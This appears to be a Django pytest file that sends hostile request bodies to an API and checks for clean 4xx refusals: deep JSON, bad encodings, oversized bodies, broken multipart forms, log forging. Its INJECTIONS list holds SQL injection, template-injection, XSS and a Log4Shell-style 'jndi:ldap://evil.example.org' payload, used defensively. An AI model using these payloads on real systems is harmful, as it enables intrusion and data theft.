"""Hostile bodies (A128-A146) over the whole stack: a 4xx in the one shape, never a 500."""

import gzip
import json
import logging
from typing import Any

import pytest
from django.conf import settings
from django.test import Client

from accounts.models import User
from common.tests.probe.client import PROBE, client_of, detail_codes, least_cpu, post_bytes, refused
from common.tests.probe.serializers import EchoSerializer

pytestmark = [pytest.mark.django_db, pytest.mark.urls("common.tests.probe.urls")]

INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE accounts_user; --",
    '" OR ""="',
    "\\'; SELECT pg_sleep(5); --",
    "%' UNION SELECT password FROM accounts_user --",
    "$$; SELECT 1; $$",
    "a_b%c\\",
    "{{7*7}}",
    "{0.__class__}",
    "%(password)s",
    "%n%s%x",
    "${jndi:ldap://evil.example.org/a}",
    "<script>alert(1)</script>",
]


@pytest.fixture
def staff() -> User:
    return User.objects.create_user("staff@example.com", is_staff=True)


def get(path: str, **environ: Any) -> Any:
    """The path as it stands on the request line, percent signs and all."""
    route, _, query = path.partition("?")
    return Client().generic("GET", PROBE + route, QUERY_STRING=query, **environ)


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"[" * 100_000, "TOO_DEEP"),
        (b'{"metadata":' + b'{"a":' * 5_000 + b"1" + b"}" * 5_001, "TOO_DEEP"),
        (b'{"metadata":{"a":' + b"[" * 31 + b"]" * 31 + b"}}", "TOO_DEEP"),
    ],
)
def test_a128_deep_json_is_refused(body: bytes, code: str) -> None:
    assert detail_codes(refused(post_bytes(body), 400, "VALIDATION_ERROR")) == {"": code}


@pytest.mark.parametrize(
    "body",
    [
        b'{"title":"a\\u0000b"}',
        b'{"metadata":{"\\u0000":1}}',
        b'{"metadata":{"a":["\\u0000"]}}',
        b'{"ti\\u0000tle":1}',
        b'{"title":"a\x00b"}',
    ],
)
def test_a129_nul_in_json_is_refused(body: bytes) -> None:
    refused(post_bytes(body), 400, "VALIDATION_ERROR")


@pytest.mark.parametrize(
    "body", [b'{"metadata":{"a":"\\ud800"}}', b'{"metadata":{"\\udfff":1}}', b'{"title":"\\udc00\\ud800"}']
)
def test_a130_lone_surrogates_are_refused(body: bytes) -> None:
    assert detail_codes(refused(post_bytes(body), 400, "VALIDATION_ERROR")) == {"": "INVALID_CHARACTER"}


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b'{"title":"\xff"}', "INVALID_ENCODING"),
        (b'{"title":"\xc0\xaf"}', "INVALID_ENCODING"),
        (b'{"title":"\xed\xa0\x80"}', "INVALID_ENCODING"),
        (b"\xef\xbb\xbf{}", "INVALID_ENCODING"),
        ('{"title":"a"}'.encode("utf-16"), "INVALID_ENCODING"),
        ('{"title":"a"}'.encode("utf-32-le"), "INVALID_JSON"),
    ],
)
def test_a132_other_encodings_are_refused(body: bytes, code: str) -> None:
    assert detail_codes(refused(post_bytes(body), 400, "VALIDATION_ERROR")) == {"": code}


@pytest.mark.parametrize("charset", ["nope", "utf-16", "latin-1", "utf-8\x01", "", "x" * 1_000])
def test_a132_other_charsets_are_refused(charset: str) -> None:
    response = post_bytes(b"{}", content_type=f"application/json; charset={charset}")

    refused(response, 415, "UNSUPPORTED_MEDIA_TYPE")


@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "junk",
        "application/json5",
    ],
)
def test_a132_other_media_types_are_refused(content_type: str) -> None:
    refused(post_bytes(b"{}", content_type=content_type), 415, "UNSUPPORTED_MEDIA_TYPE")


@pytest.mark.parametrize(
    "body",
    [
        b'{"amount":"1","amount":"2"}',
        b'{"amount":"1","amount":"1"}',
        b'{"metadata":{"a":1,"a":2}}',
        b'{"amount":"1","\\u0061mount":"2"}',
    ],
)
def test_a133_duplicate_keys_are_refused(body: bytes) -> None:
    assert detail_codes(refused(post_bytes(body), 400, "VALIDATION_ERROR")) == {"": "DUPLICATE_KEY"}


ABSURD = [2**63, 10**30, "1" * 5_000, "1e400", "-1e400", "NaN", "Infinity", "-Infinity"]


@pytest.mark.parametrize("number", ABSURD)
@pytest.mark.parametrize("field", ["quantity", "number", "metadata", "ratio", "reference_id", "amount"])
def test_a134_absurd_numbers_are_refused(field: str, number: object) -> None:
    refused(post_bytes(f'{{"{field}":{number}}}'.encode()), 400, "VALIDATION_ERROR")


@pytest.mark.parametrize("number", [2**31, 2**53 + 1])
@pytest.mark.parametrize("field", ["quantity", "number", "reference_id", "person_id"])
def test_a134_numbers_that_no_column_holds_are_refused(field: str, number: int) -> None:
    refused(post_bytes(f'{{"{field}":{number}}}'.encode()), 400, "VALIDATION_ERROR")


@pytest.mark.parametrize("body", [b"[]", b'"text"', b"null", b"5", b"true", b"[[]]", b'[{"title":"a"}]'])
def test_a135_a_body_that_is_no_object_is_refused(body: bytes) -> None:
    refused(post_bytes(body), 400, "VALIDATION_ERROR")


@pytest.mark.parametrize("value", [{}, {"a": 1}, [], ["a"], None, True])
def test_a135_a_value_of_another_kind_is_refused(value: Any) -> None:
    for field in ("title", "full_name", "email", "phone_number", "quantity", "start_time", "timezone", "person_id"):
        error = refused(post_bytes(json.dumps({field: value}).encode()), 400, "VALIDATION_ERROR")

        assert set(detail_codes(error)) == {field}


@pytest.mark.parametrize("value", [{}, "a", 1, {"0": {}}])
def test_a135_a_list_of_another_kind_is_refused(value: Any) -> None:
    for field in ("tags", "time_slots"):
        refused(post_bytes(json.dumps({field: value}).encode()), 400, "VALIDATION_ERROR")


@pytest.mark.parametrize(
    "content_type", ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]
)
def test_a140_thirty_megabytes_are_refused_unread(content_type: str) -> None:
    refused(post_bytes(b" " * 30_000_000, content_type=content_type), 413, "PAYLOAD_TOO_LARGE")


def test_a140_the_limit_is_exact() -> None:
    fitting = b'{"title":"a"}'.ljust(settings.MAX_BODY_BYTES)

    assert post_bytes(fitting).status_code == 200
    refused(post_bytes(fitting + b" "), 413, "PAYLOAD_TOO_LARGE")


@pytest.mark.parametrize("coding", ["gzip", "deflate", "br", "GZIP", "gzip, gzip"])
def test_a140_compressed_bodies_are_refused(coding: str) -> None:
    response = post_bytes(gzip.compress(b" " * 1_000_000), headers={"Content-Encoding": coding})

    refused(response, 415, "UNSUPPORTED_MEDIA_TYPE")


def test_a140_a_body_without_length_is_refused() -> None:
    response = Client().generic(
        "POST",
        PROBE + "/echo",
        headers={"Transfer-Encoding": "chunked"},
        CONTENT_TYPE="application/json",
        CONTENT_LENGTH="",
    )

    refused(response, 413, "PAYLOAD_TOO_LARGE")


@pytest.mark.parametrize("length", ["-1", "abc", "1e3", "1_0", "+5", "٥", " 5"])
def test_a140_a_length_that_is_no_number_is_refused(length: str) -> None:
    refused(post_bytes(b"{}", CONTENT_LENGTH=length), 400, "VALIDATION_ERROR")


def part(name: str, content: str = "x", boundary: str = "b") -> str:
    return f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{content}\r\n'


NESTED = (
    '--b\r\nContent-Disposition: form-data; name="file"\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n'
    "--c\r\n\r\nx\r\n--c--\r\n--b--\r\n"
)


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("multipart/form-data", part("a")),
        ("multipart/form-data; boundary=", part("a")),
        ("multipart/form-data; boundary=b", ""),
        ("multipart/form-data; boundary=b", "no part at all"),
        ("multipart/form-data; boundary=b", "".join(part(f"a{n}") for n in range(10_000)) + "--b--\r\n"),
        ("multipart/form-data; boundary=b", part("a" * 1_000_000) + "--b--\r\n"),
        ("multipart/form-data; boundary=b", NESTED),
        ("multipart/form-data; boundary=grüße", part("a", boundary="grüße")),
        ("multipart/form-data; boundary=" + "b" * 500, part("a", boundary="b" * 500)),
        ("multipart/form-data; boundary=b", part("caption", "\x00") + "--b--\r\n"),
        ("multipart/form-data; boundary=b", part("\x00") + "--b--\r\n"),
        ("multipart/form-data; boundary=b; charset=nope", part("caption") + "--b--\r\n"),
    ],
    ids=[
        "no boundary",
        "empty boundary",
        "empty",
        "no part",
        "10,000 parts",
        "1 MB name",
        "nested",
        "non-ASCII",
        "long",
        "NUL",
        "NUL name",
        "charset",
    ],
)
def test_a141_broken_forms_are_refused(content_type: str, body: str) -> None:
    response = post_bytes(body.encode(), "/upload", content_type)

    assert response.status_code in {400, 415}
    refused(response, response.status_code, response.json()["error"]["code"])


def test_a141_a_whole_form_is_read() -> None:
    file = '--b\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nhello\r\n--b--\r\n'

    response = post_bytes(file.encode(), "/upload", "multipart/form-data; boundary=b")

    assert response.json()["data"] == {"size": 5}


@pytest.mark.parametrize(
    "field",
    ["phone_number", "email", "full_name", "promo_code", "title", "timezone", "start_time", "amount", "opens_at"],
)
@pytest.mark.parametrize(
    "text",
    [
        "a" * 10_000,
        "1" * 10_000,
        "+" + "1" * 10_000,
        "a@" * 5_000,
        "a." * 5_000,
        "x" + " " * 10_000 + "x",
        "-" * 10_000,
        "@" + "a-" * 5_000 + "!",
    ],
)
def test_a142_long_texts_cost_no_time(field: str, text: str) -> None:
    assert not EchoSerializer(data={field: text}).is_valid()
    assert least_cpu(EchoSerializer(data={field: text}).is_valid) < 0.01


@pytest.mark.parametrize("text", ["\u202eecilA", "Ali\u2066ce", "e" + "\u0301" * 1_000, "Ali\nce", "Ali\rce"])
def test_a143_names_that_deceive_are_refused(text: str) -> None:
    refused(post_bytes(json.dumps({"full_name": text}).encode()), 400, "VALIDATION_ERROR")


@pytest.mark.parametrize("text", ["\x1b[31mred", "a\r\nERROR forged", "\x9b31m"])
def test_a144_what_is_logged_stays_on_its_line(text: str, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO):
        response = post_bytes(json.dumps({text: text, "title": text}).encode())

    refused(response, 400, "VALIDATION_ERROR")
    assert not any("forged" in record.getMessage() or "\x1b" in record.getMessage() for record in caplog.records)


@pytest.mark.parametrize("text", INJECTIONS)
def test_a145_a146_metacharacters_are_letters_like_any_other(staff: User, text: str) -> None:
    client = client_of(staff)

    echoed = post_bytes(json.dumps({"title": text, "metadata": {text: text}}).encode())
    created = client.post(PROBE + "/people", {"email": "new@example.com", "last_name": text}, "application/json")
    found = client.get(PROBE + "/people", {"search": text})

    assert echoed.json()["data"] == {"title": text, "metadata": {text: text}}
    assert created.json()["data"]["last_name"] == text
    assert [person["last_name"] for person in found.json()["data"]["people"]] == [text]
    assert get("/names/" + "".join(f"%{byte:02x}" for byte in text.encode() if byte != ord("/"))).status_code == 200


@pytest.mark.parametrize("text", INJECTIONS)
def test_a145_a146_metacharacters_are_literal_in_refusals(staff: User, text: str) -> None:
    client = client_of(staff)

    named = refused(post_bytes(json.dumps({text: 1}).encode()), 400, "VALIDATION_ERROR")
    for name in ("sort_by", "language", "created_year", "id", text):
        refused(client.get(PROBE + "/people", {name: text}), 400, "VALIDATION_ERROR")

    assert detail_codes(named) == {text: "UNKNOWN_FIELD"}
    assert User.objects.count() == 1
